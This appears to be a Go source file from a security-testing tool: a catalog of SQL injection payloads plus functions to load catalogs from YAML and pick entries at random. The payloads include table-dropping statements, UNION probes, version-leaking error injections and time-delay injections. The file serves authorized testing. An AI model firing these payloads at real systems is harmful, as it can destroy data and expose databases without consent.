// Package payloads provides the SQL injection strategy catalog
package payloads

import (
	"errors"
	"fmt"
	"math/rand/v2"
	"os"

	"gopkg.in/yaml.v3"
)

// ErrEmptyCatalog is returned when a catalog would hold no strategies
var ErrEmptyCatalog = errors.New("injection catalog is empty")

// Catalog is an ordered, immutable list of attack strings
type Catalog struct {
	strategies []string
}

// SQL injection strategies - these are security testing payloads for authorized pentesting.
// Entries avoid '%' and '#' so they survive verbatim in a URL path or query.
var sqlInjectionStrategies = []string{
	"' OR 1=1; --",
	"1; DROP TABLE users",
	"' OR '1'='1",
	"' OR '1'='1' --",
	"\" OR \"1\"=\"1",
	"1' OR '1'='1",
	"1 OR 1=1",
	"') OR ('1'='1",
	"'; DROP TABLE users; --",
	"' UNION SELECT NULL --",
	"' UNION SELECT NULL,NULL --",
	"1 UNION SELECT 1,2,3 --",
	"' AND 1=CONVERT(int,@@version) --",
	"' AND extractvalue(1,concat(0x7e,version())) --",
	"'; WAITFOR DELAY '0:0:5' --",
	"' AND pg_sleep(5) --",
	"'/**/OR/**/1=1 --",
	"' oR 'x'='x",
	"1;SELECT * FROM information_schema.tables",
	"'",
}

// DefaultSQLi returns the built-in SQL injection catalog
func DefaultSQLi() *Catalog {
	return &Catalog{strategies: sqlInjectionStrategies}
}

// NewCatalog creates a catalog from the given strategies, preserving order
func NewCatalog(strategies []string) (*Catalog, error) {
	if len(strategies) == 0 {
		return nil, ErrEmptyCatalog
	}
	c := make([]string, len(strategies))
	copy(c, strategies)
	return &Catalog{strategies: c}, nil
}

// LoadCatalog reads a YAML list of strategies from path
func LoadCatalog(path string) (*Catalog, error) {
	data, err := os.ReadFile(path)
	if err != nil {
		return nil, fmt.Errorf("failed to read catalog: %w", err)
	}

	var strategies []string
	if err := yaml.Unmarshal(data, &strategies); err != nil {
		return nil, fmt.Errorf("failed to parse catalog %s: %w", path, err)
	}

	catalog, err := NewCatalog(strategies)
	if err != nil {
		return nil, fmt.Errorf("%w: %s", err, path)
	}
	return catalog, nil
}

// All returns the full sequence in catalog order
func (c *Catalog) All() []string {
	out := make([]string, len(c.strategies))
	copy(out, c.strategies)
	return out
}

// Len returns the number of strategies
func (c *Catalog) Len() int {
	return len(c.strategies)
}

// RandomOne returns one strategy chosen uniformly at random from r.
// A nil r uses the global source.
func (c *Catalog) RandomOne(r *rand.Rand) string {
	if r == nil {
		return c.strategies[rand.IntN(len(c.strategies))]
	}
	return c.strategies[r.IntN(len(c.strategies))]
}
